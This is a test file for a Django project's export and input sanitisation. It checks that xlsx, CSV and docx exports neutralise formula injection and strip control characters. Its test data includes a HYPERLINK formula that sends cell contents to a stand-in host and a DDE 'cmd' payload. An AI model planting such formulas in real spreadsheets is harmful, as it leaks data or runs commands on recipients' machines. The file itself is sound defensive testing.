"""Issue 16, part 2: exports never carry a live formula or a control character; input
refuses control characters where they have no meaning.

A case titled ``=HYPERLINK("http://…"&C2,"详情")`` became a live formula in another unit's
.xlsx; a title with ``\\x0b`` or ``\\x01`` made the .xlsx export answer 500 for every unit
that could see it, and the same in meeting minutes broke the minutes .docx."""

from __future__ import annotations

import csv
import io

import docx
import pytest
from openpyxl import Workbook, load_workbook

from envgrid.core.exports import xlsx_bytes
from envgrid.core.textsafe import clean_text, safe_cell
from envgrid.org.models import Unit
from envgrid.testing import make_unit

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&C2,"详情")'


@pytest.mark.parametrize(
    "text", [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
)
def test_formula_looking_text_is_written_as_text_with_a_leading_quote(text):
    book = load_workbook(io.BytesIO(xlsx_bytes(["标题"], [[text]])))
    cell = book.active["A2"]
    assert cell.data_type == "s"
    assert cell.value == "'" + text


def test_numbers_and_ordinary_text_are_unchanged():
    book = load_workbook(io.BytesIO(xlsx_bytes(["a", "b", "c"], [[-5, 3.5, "某厂 = 偷排"]])))
    ws = book.active
    assert [c.value for c in ws[2]] == [-5, 3.5, "某厂 = 偷排"]


def test_control_characters_are_removed_from_xlsx_instead_of_a_500():
    content = xlsx_bytes(["标题"], [["偷排\x0b废水\x01\x1f"]])
    ws = load_workbook(io.BytesIO(content)).active
    assert ws["A2"].value == "偷排\n废水"


def test_every_openpyxl_writer_is_guarded_not_only_core_exports():
    """reporting, enforcement and assessment build their own workbooks."""
    wb = Workbook()
    ws = wb.active
    ws.append([HYPERLINK, "坏\x01字符"])
    buf = io.BytesIO()
    wb.save(buf)
    back = load_workbook(io.BytesIO(buf.getvalue())).active
    assert [c.value for c in back[1]] == ["'" + HYPERLINK, "坏字符"]


def test_unit_list_export_with_hostile_unit_name_answers_a_safe_workbook(world, client):
    unit = make_unit("成员单位X")
    # Written past the input checks (as data stored before them would be).
    Unit.objects.filter(pk=unit.pk).update(name=HYPERLINK + "\x0b\x01")
    client.force_login(world.admin)
    r = client.get("/org/units/?format=xlsx")
    assert r.status_code == 200
    ws = load_workbook(io.BytesIO(r.content)).active
    names = [row[1] for row in ws.iter_rows(min_row=2, values_only=True)]
    assert "'" + HYPERLINK + "\n" in names
    assert not any(isinstance(n, str) and n.startswith("=") for n in names)


def test_public_csv_neutralises_formulas_and_control_characters():
    from envgrid.disclosure.opendata import _csv

    r = _csv("x.csv", ["名称", "数值"], [[HYPERLINK, 1.5], ["正常\x01名称", -2]])
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert rows[1] == ["'" + HYPERLINK, "1.5"]
    assert rows[2] == ["正常名称", "-2"]


def test_meeting_minutes_docx_with_control_characters_is_built(world):
    from envgrid.meetings.documents import minutes_document
    from envgrid.meetings.models import Meeting
    from envgrid.meetings.tests.factories import schedule

    meeting = schedule(world)
    Meeting.objects.filter(pk=meeting.pk).update(
        title="第一次\x01联席会议", minutes="会议议定\x01事项\x0c一、整治\x1f散乱污"
    )
    meeting.refresh_from_db()
    document = minutes_document(meeting)
    buf = io.BytesIO()
    document.save(buf)
    text = "\n".join(p.text for p in docx.Document(io.BytesIO(buf.getvalue())).paragraphs)
    assert "会议议定事项" in text
    assert "一、整治散乱污" in text
    assert "\x01" not in text


def test_clean_text_and_safe_cell_rules():
    assert clean_text("a\x00b\x7fc\ud800") == "abc\ufffd"
    assert clean_text("行1\n行2\t列\r") == "行1\n行2\t列\r"
    assert safe_cell(-3) == -3
    assert safe_cell("=1") == "'=1"
    assert safe_cell("\x01=1") == "'=1"  # cleaned first, then neutralised


# ------------------------------------------------------------------ input


def test_api_refuses_control_characters_in_json_strings(world, api):
    api.force_authenticate(world.member_staff[0].user)
    r = api.post("/api/cases/", {"title": "偷排\x01废水"}, format="json")
    assert r.status_code == 400
    body = r.json()
    assert body["code"] == "control_characters"
    assert list(body["fields"]) == ["title"]


def test_api_keeps_line_breaks_and_tabs_in_text(world, api):
    from envgrid.core.parsers import check_structure

    check_structure({"minutes": "一、\n二、\t三\r\n"})


def test_form_post_with_control_characters_is_refused(world, client):
    client.force_login(world.admin)
    r = client.post("/org/persons/new/", {"name": "张\x0b三"})
    assert r.status_code == 400
    assert "不能包含控制字符" in r.content.decode()


def test_form_api_post_with_control_characters_is_refused_as_json(world, api):
    api.force_authenticate(world.member_staff[0].user)
    r = api.post("/api/cases/", {"title": "偷排\x01废水"}, format="multipart")
    assert r.status_code == 400
    assert r.json()["code"] == "control_characters"
